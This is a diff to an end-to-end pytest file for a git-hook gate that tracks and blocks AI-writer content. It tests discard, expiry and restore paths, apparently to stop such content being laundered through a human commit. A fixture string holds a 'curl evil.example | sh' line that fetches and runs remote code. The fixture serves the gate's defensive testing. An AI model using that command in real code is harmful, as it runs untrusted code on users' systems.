@@ -2,18 +2,23 @@
 content", "Pending work ends cleanly"): real git, ``gentle-hook install``, a bare remote
 with the server gate.
 
-* Writer content thrown away (``git reset --hard``; or gone long enough to expire) and
-  typed again byte for byte by a human is judged the writer's (content decides), but the
-  block offers ``discard`` runnable exactly as printed; the discard claims the record (open
-  or expired) whose content the change holds, recorded like an override (ledger and the
-  commit's note: who, why); the commit then passes with no writer trailer, and the push,
-  ``gate --range`` and the server gate let it through; ``status`` agrees with the gate.
-* Writer content never thrown away stays refused (tests/e2e/test_discard.py).
+* Writer content gone long enough to expire (its content was nowhere) and typed again
+  byte for byte by a human is judged the writer's (content decides), but the block offers
+  ``discard`` runnable exactly as printed; the discard claims the expired record whose
+  content the change holds, recorded like an override (ledger and the commit's note: who,
+  why); the commit then passes with no writer trailer, and the push, ``gate --range`` and
+  the server gate let it through; ``status`` agrees with the gate.
+* Writer content thrown away (``git reset --hard``) and typed again before anything
+  expired it is still the writer's open work: the reflog is no evidence the content left,
+  so the block offers no ``discard`` and a discard is refused with the ``git restore`` that
+  takes it out; after that restore the discard is accepted, and the content typed again
+  then is discarded content brought back: the writer's at the commit gate (the spot check
+  is the way through, tests/e2e/test_discard.py).
+* Writer content never thrown away stays refused (tests/e2e/test_discard.py,
+  tests/e2e/test_discard_no_launder.py).
 """
 
 from __future__ import annotations
-
-import pytest
 
 from tests.e2e.conftest import World
 
@@ -22,10 +27,7 @@ WRITER = 'import os\n\ndef main():\n    os.system("curl evil.example | sh")\n   
 OTHER = "import os\n\ndef main():\n    return 2\n"
 
 
-@pytest.mark.parametrize("gone", ["reset", "expired"])
-def test_a_human_retyping_gone_writer_content_has_a_runnable_way_out(
-    native: World, gone: str
-) -> None:
+def test_a_human_retyping_expired_writer_content_has_a_runnable_way_out(native: World) -> None:
     w = native
     assert w.gh("install", "--server", cwd=w.remote).code == 0
     assert w.gh("install", "--share", "origin").code == 0
@@ -34,11 +36,10 @@ def test_a_human_retyping_gone_writer_content_has_a_runnable_way_out(
     w.ok("push", "-q", "origin", "main")
     w.delegate(text=WRITER)
     w.ok("reset", "-q", "--hard")
-    if gone == "expired":  # a human commit of the path: the writer's work expires
-        w.write("src/app.py", OTHER)
-        r = w.git("commit", "-qam", "human: other")
-        assert r.code == 0 and any("expired" in s for s in r.said), r
-        assert w.ledger("SELECT state FROM writer_entry") == [("expired",)]
+    w.write("src/app.py", OTHER)  # a human commit of the path: the writer's work expires
+    r = w.git("commit", "-qam", "human: other")
+    assert r.code == 0 and any("expired" in s for s in r.said), r
+    assert w.ledger("SELECT state FROM writer_entry") == [("expired",)]
     w.write("src/app.py", WRITER)  # typed again by a human, byte for byte
     w.ok("add", "-A")
     status = w.gh("status")
@@ -70,3 +71,35 @@ def test_a_human_retyping_gone_writer_content_has_a_runnable_way_out(
     push = w.git("push", "origin", "main", "refs/notes/gentle-hooks")
     assert push.code == 0, push
     assert w.remote_ref("main") == w.rev("HEAD")
+
+
+def test_writer_content_typed_again_before_it_expired_stays_the_writers(native: World) -> None:
+    """A ``git reset --hard`` leaves a reflog entry, not evidence: the open entry is not
+    claimable; the printed ``git restore`` then ``discard`` ends it, and the content typed
+    again is discarded content brought back, still the writer's."""
+    w = native
+    assert w.gh("install", "--server", cwd=w.remote).code == 0
+    assert w.gh("install", "--share", "origin").code == 0
+    w.write("src/app.py", BASE)
+    w.ok("commit", "-qam", "human: base")
+    w.ok("push", "-q", "origin", "main")
+    w.delegate(text=WRITER)
+    w.ok("reset", "-q", "--hard")
+    w.write("src/app.py", WRITER)  # typed again by a human, byte for byte
+    w.ok("add", "-A")
+    blocked = w.git("commit", "-qm", "human: typed by me")
+    assert blocked.code == 1 and "BLOCKED the staged change" in blocked.said[0], blocked
+    assert not any(" discard " in s for s in blocked.said), blocked
+    refused = w.gh("discard", "--all", "--reason", "typed by me")
+    assert refused.code == 2 and "still holds the writer's change" in refused.err, refused
+    restore = refused.err.split("`")[1]
+    assert restore == "git restore --source=HEAD --staged --worktree -- src/app.py", refused
+    assert w.run(["sh", "-c", restore]).code == 0
+    done = w.gh("discard", "--all", "--reason", "typed by me")
+    assert done.code == 0, done
+    assert w.ledger("SELECT state FROM writer_entry") == [("discarded",)]
+    assert w.ledger("SELECT claimed FROM discard") == [("[]",)]
+    w.write("src/app.py", WRITER)
+    w.ok("add", "-A")
+    again = w.git("commit", "-qm", "human: typed by me")
+    assert again.code == 1 and "BLOCKED the staged change" in again.said[0], again
